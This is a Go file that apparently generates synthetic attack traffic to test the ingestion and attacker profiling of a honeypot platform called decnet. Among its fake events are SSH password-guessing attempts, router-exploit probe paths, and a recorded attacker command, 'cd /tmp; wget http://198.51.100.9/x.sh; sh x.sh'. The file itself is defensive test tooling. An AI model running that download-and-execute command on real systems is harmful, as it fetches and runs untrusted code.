package main

import (
	"fmt"
	"math/rand/v2"
	"net/netip"
	"slices"
	"strconv"
	"time"

	"github.com/decnet/decnet"
	"github.com/decnet/decnet/collector/ingest"
	"github.com/decnet/decnet/rfc5424"
	"github.com/decnet/decnet/store"
)

// How much there is to tell apart.
const (
	attackers = 20_000
	deckies   = 50
	passwords = 1500
)

// services are those that are attacked, the first ones more often.
var services = []string{
	"ssh", "http", "telnet", "smb", "rdp", "mysql", "redis", "ftp", "smtp", "https", "vnc", "sip", "mssql", "postgres", "mongodb",
	"elasticsearch", "docker_api", "k8s", "ldap", "imap", "pop3", "snmp", "mqtt", "tftp", "dns", "memcached", "ipp", "modbus", "s7", "cassandra",
}

// traffic makes events as a network under attack does: visits of a few addresses that come
// often and many that come rarely, to some services more than to others.
type traffic struct {
	rnd      *rand.Rand
	who      *rand.Zipf
	what     *rand.Zipf
	password *rand.Zipf
	at       time.Time
	gap      time.Duration // mean time between two events
	events   []decnet.Event
}

// newTraffic makes events from a time on, gap apart on average.
func newTraffic(seed uint64, from time.Time, gap time.Duration) *traffic {
	rnd := rand.New(rand.NewPCG(seed, 1))
	return &traffic{rnd: rnd, at: from, gap: gap,
		who:      rand.NewZipf(rnd, 1.1, 40, attackers-1),
		what:     rand.NewZipf(rnd, 1.4, 4, uint64(len(services)-1)),
		password: rand.NewZipf(rnd, 1.3, 3, passwords-1),
	}
}

// next returns the next event.
func (tr *traffic) next() decnet.Event {
	if len(tr.events) == 0 {
		tr.visit()
	}
	e := tr.events[0]
	tr.events = tr.events[1:]
	tr.at = tr.at.Add(tr.gap/2 + time.Duration(tr.rnd.Int64N(int64(tr.gap))))
	e.Time = tr.at.Truncate(time.Microsecond)
	return e
}

func address(n uint64) netip.Addr {
	return netip.AddrFrom4([4]byte{203, byte(n >> 16), byte(n >> 8), byte(n)})
}

// visit adds the events of one connection.
func (tr *traffic) visit() {
	n := tr.who.Uint64()
	addr := address(n)
	decky, service := fmt.Sprintf("decky-%02d", tr.rnd.IntN(deckies)), services[tr.what.Uint64()]
	port := strconv.Itoa(32768 + tr.rnd.IntN(28000))
	emit := func(kind string, fields ...decnet.Field) {
		tr.events = append(tr.events, rfc5424.Canonical(decnet.Event{
			Decky: decky, Service: service, Type: kind, Attacker: addr, Severity: decnet.SeverityInfo,
			Fields: append([]decnet.Field{decnet.F("src_ip", addr.String()), decnet.F("src_port", port)}, fields...),
		}))
	}
	emit("connect", decnet.F("dst_ip", "192.0.2.10"), decnet.F("dst_port", "22"))
	switch {
	case service == "http" || service == "https":
		agent := fmt.Sprintf("Mozilla/5.0 (compatible; scanner/%d.0)", n%7)
		for range 1 + tr.rnd.IntN(6) {
			emit("request", decnet.F("method", "GET"), decnet.F("path", fmt.Sprintf("/cgi-bin/luci/;stok=%d", tr.rnd.IntN(1000))),
				decnet.F("host", "192.0.2.10"), decnet.F("version", "HTTP/1.1"),
				decnet.F("headers", fmt.Sprintf(`{"Host":"192.0.2.10","User-Agent":%q,"Accept":"*/*","Connection":"close"}`, agent)),
				decnet.F("user_agent", agent), decnet.F("status", "404"))
		}
	case n%5 < 2:
		emit("session", decnet.F("client_version", "SSH-2.0-libssh2_1.11.0"), decnet.F("hassh", fmt.Sprintf("%032x", n%7)))
		for range 1 + tr.rnd.IntN(3) {
			emit("auth_attempt", decnet.F("username", []string{"root", "admin", "ubuntu"}[tr.rnd.IntN(3)]),
				decnet.F("password", fmt.Sprintf("pass%d!", tr.password.Uint64())), decnet.F("method", "password"), decnet.F("outcome", "failure"))
		}
	case n%5 == 2:
		for range 1 + tr.rnd.IntN(4) {
			emit("command", decnet.F("command", "cd /tmp; wget http://198.51.100.9/x.sh; sh x.sh"))
		}
		if tr.rnd.IntN(50) == 0 {
			sum := fmt.Sprintf("%064x", tr.rnd.IntN(500))
			emit("file_captured", decnet.F("sha256", sum), decnet.F("stored_as", sum[48:]+".bin"), decnet.F("size", "4096"), decnet.F("orig_path", "/tmp/x.sh"))
		}
	}
	emit("disconnect", decnet.F("duration_ms", "1200"), decnet.F("bytes_in", "2048"), decnet.F("bytes_out", "4096"), decnet.F("reason", "closed"))
}

// history is traffic that is filled into a store, with the profiles of those who made it.
type history struct {
	*traffic
	profiles map[netip.Addr]*store.Profile
}

// batch returns the next n records with their bounties.
func (h *history) batch(n int) store.Batch {
	b := store.Batch{Records: make([]store.Record, n)}
	for i := range b.Records {
		e := h.next()
		b.Records[i] = store.Record{Event: e, Raw: string(rfc5424.Append(nil, &e))}
		b.Bounties = append(b.Bounties, ingest.Extract(&e)...)
		h.profile(&e)
	}
	return b
}

// profile counts e for the one who made it.
func (h *history) profile(e *decnet.Event) {
	p := h.profiles[e.Attacker]
	if p == nil {
		p = &store.Profile{Attacker: decnet.Attacker{Addr: e.Attacker, FirstSeen: e.Time}}
		h.profiles[e.Attacker] = p
	}
	p.Events++
	p.LastSeen, p.UpdatedAt = e.Time, e.Time
	if !slices.Contains(p.Services, e.Service) {
		p.Services = append(p.Services, e.Service)
		slices.Sort(p.Services)
	}
	if !slices.Contains(p.Deckies, e.Decky) {
		p.Deckies = append(p.Deckies, e.Decky)
	}
	if e.Type == "command" && len(p.Commands) < 50 {
		p.Commands = append(p.Commands, decnet.Command{Time: e.Time, Decky: e.Decky, Service: e.Service, Text: e.Value("command")})
	}
}
